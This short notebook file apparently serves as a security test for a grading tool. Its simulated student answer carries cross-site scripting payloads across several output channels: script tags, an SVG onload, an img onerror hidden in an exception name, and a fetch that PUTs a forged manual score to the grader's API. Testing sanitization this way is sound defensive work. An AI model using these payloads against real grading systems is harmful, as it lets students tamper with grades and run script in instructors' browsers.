# attack: what the answer says carries HTML that would run in the grader's browser
# %% cell
from IPython.display import HTML, Javascript, display
EVIL = "<script>fetch('/formgrader/api/grade/1', {method: 'PUT', body: '{\"manual_score\": 4}'})</script>"
display(HTML(EVIL), Javascript("alert(1)"))
display({"text/markdown": EVIL, "image/svg+xml": "<svg onload='alert(1)'/>", "image/png": '"><script>alert(1)</script>'}, raw=True)

# %% after
def EXERCISE(x, w):
    import warnings
    print(EVIL)
    warnings.warn(EVIL)
    raise type("<img src=x onerror=alert(1)>", (Exception,), {})(EVIL)
